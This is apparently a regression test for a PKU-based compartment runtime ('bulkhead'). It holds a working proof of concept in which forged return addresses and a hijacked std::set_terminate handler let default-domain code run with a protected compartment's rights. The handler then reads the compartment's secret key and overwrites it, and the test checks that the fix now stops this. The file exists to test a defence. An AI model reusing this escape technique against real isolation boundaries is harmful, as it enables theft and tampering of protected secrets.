// Review 69b, attacker model B (the default domain's program counter):
// listed_personality (review 68b) checks a listed frame off the
// compartment's stacks only after the frame's own routine returns, but
// libstdc++'s routine, for a frame whose pc lies in no entry of its LSDA's
// call-site table, reports a handler in the search phase and then, in the
// cleanup phase, calls __cxa_call_terminate itself (internal to
// libstdc++, not through its PLT: runtime/terminate.c's std::terminate is
// not reached), which calls the terminate handler copied into the
// exception's header at the throw: the word std::set_terminate wrote in
// libstdc++'s .data, key-0. It runs with the rights of the unwinder, the
// vault's. threat-model.md names this open for GCC's noexcept code; a
// forged return address reaches it in any listed function with an LSDA.
// How: std::set_terminate(steal), by steal's own address; attack_call
// (the attacker's code, default rights) switches to a key-0 array filled
// with the address of `landed`, pushes as its return address guard's
// first byte + 1 (guard: a listed function whose try begins after its
// entry, so pc guard+0 is in no call-site entry), and jumps to
// vault_boom's entry, which throws E.
// The vault's unwinder: vault frames -> entry trampoline (CFA the key-0
// array) -> guard at its entry: libstdc++ finds "terminate", the search
// stops there, and the cleanup phase runs steal() with the vault's rights
// on the vault's stack, before the runtime's routine sees the result.
// steal copies the vault's key into key-0 memory and writes "POWNED!"
// over it; thread 2 (default rights) reports.
// Control: "control": the same, but the thrower is default-domain code
// (def_boom): steal runs with the default domain's PKRU and leaves the key
// alone, so the handler is reached this way and the rights are the
// thrower's.
// Seen in the guest (LLVM 19, -O2) on h-rev69b at c9116ab: control
// "steal ran with the default domain's rights", "vault key intact";
// attack: "steal ran with other rights (pkru 0xfffffff0)", "ATTACK
// SUCCEEDED: the terminate handler read the vault's key: TOP-SECR",
// "ATTACK SUCCEEDED: the vault's key now begins \"POWNED!\"", 3 of 3.
// Model A would do too (reasoned, not run): the handler word and a
// return address on the default domain's stack are key-0 stores.
// Fixed (runtime/unwind-copy.c, checked_personality): for a frame off
// the compartment's stacks the runtime looks the pc up in the LSDA's
// call-site table first (unwind-cfi.c, bh_lsda_covers) and stops the
// program with one line where none covers it, before the frame's own
// routine runs.
// REQUIRES: pku
// RUN: %bulkhead_clangxx -fpkey-compartments -O2 %s -o %t -lpthread
// RUN: %run %t control | FileCheck %s --check-prefix=CONTROL
// RUN: not %run %t > %t.out 2>&1
// RUN: FileCheck %s < %t.out
// CONTROL: steal ran with the default domain's rights
// CONTROL: vault key intact
// CHECK-NOT: ATTACK SUCCEEDED
// CHECK-NOT: steal ran
// CHECK: bulkhead: error: an exception of compartment 'vault' would end the program at pc {{.*}}, off its stacks, in no call site of the frame's LSDA
// CHECK-NOT: ATTACK SUCCEEDED
#include "Inputs/vault-key.h"
#include <exception>
#include <pthread.h>
#include <stdint.h>
#include <stdlib.h>
#include <unistd.h>

extern "C" BULKHEAD_ENTRY(vault) void vault_boom(void) { throw E{42}; }

extern "C" {
volatile int arrived;
volatile uint32_t steal_pkru, main_pkru;
volatile char stolen[9];
uintptr_t fake_stack[16384] __attribute__((aligned(16))); /* key 0 */
volatile uintptr_t key_at;
void attack_call(void *entry, uintptr_t site, uintptr_t *top);
__attribute__((noinline)) void def_boom(void) { throw E{7}; }
/* A listed function whose only call is the one in its try: its first
 * byte is in no call-site entry. */
__attribute__((noinline, used)) int guard(void (*f)()) {
  try {
    f();
  } catch (...) {
    return -1;
  }
  return 0;
}
}

static uint32_t rdpkru(void) {
  uint32_t eax, edx;
  __asm__ volatile(".byte 0x0f, 0x01, 0xee" : "=a"(eax), "=d"(edx) : "c"(0));
  return eax;
}

/* landed: never reached (the unwinder stops at guard's entry). */
__asm__(".text\n"
        "landed:\n"
        "  pause\n"
        "  jmp landed\n"
        "attack_call:\n"
        "  movq %rdi, %rax\n"
        "  movq %rdx, %rsp\n"
        "  pushq %rsi\n"
        "  jmpq *%rax\n");
static uintptr_t landed_at(void) {
  uintptr_t a;
  __asm__("leaq landed(%%rip), %0" : "=r"(a));
  return a;
}

/* The terminate handler: with whatever rights the unwinder had. Memory
 * only, then waits for thread 2. Installed by its own address (a pointer
 * taken in C++ would be the pass's wrapper, which gates into the default
 * domain first). */
extern "C" __attribute__((used, noinline)) void steal(void) {
  uint32_t p = rdpkru();
  steal_pkru = p;
  if (p != main_pkru) {
    volatile char *k = (volatile char *)key_at;
    for (int i = 0; i < 8; i++)
      stolen[i] = k[i];
    memcpy((void *)k, &POWNED, 8);
  }
  arrived = 1;
  for (;;)
    __asm__ volatile("pause");
}

static void *watch(void *) {
  while (!arrived)
    usleep(1000);
  if (steal_pkru == main_pkru)
    printf("steal ran with the default domain's rights\n");
  else {
    printf("steal ran with other rights (pkru %#x)\n", steal_pkru);
    char got[9] = {0};
    memcpy(got, (const void *)stolen, 8);
    if (!memcmp(got, "TOP-SECR", 8))
      printf("ATTACK SUCCEEDED: the terminate handler read the vault's key: "
             "%s\n",
             got);
  }
  report(0, 0);
  printf("done\n");
  _exit(0);
}

int main(int argc, char **argv) {
  setvbuf(stdout, NULL, _IONBF, 0);
  const char *mode = argc > 1 ? argv[1] : "attack";
  main_pkru = rdpkru();
  key_at = (uintptr_t)vault_key;
  printf("honest guard: %d\n", guard(def_boom));
  void (*raw)(void);
  __asm__("leaq steal(%%rip), %0" : "=r"(raw));
  std::set_terminate(raw);
  pthread_t t;
  pthread_create(&t, NULL, watch, NULL);
  for (auto &w : fake_stack)
    w = landed_at();
  const uint8_t *g;
  __asm__("leaq guard(%%rip), %0" : "=r"(g));
  void (*entry)(void) = !strcmp(mode, "control") ? def_boom : vault_boom;
  attack_call((void *)entry, (uintptr_t)g + 1, &fake_stack[16000]);
  printf("error: attack_call returned\n");
  return 1;
}
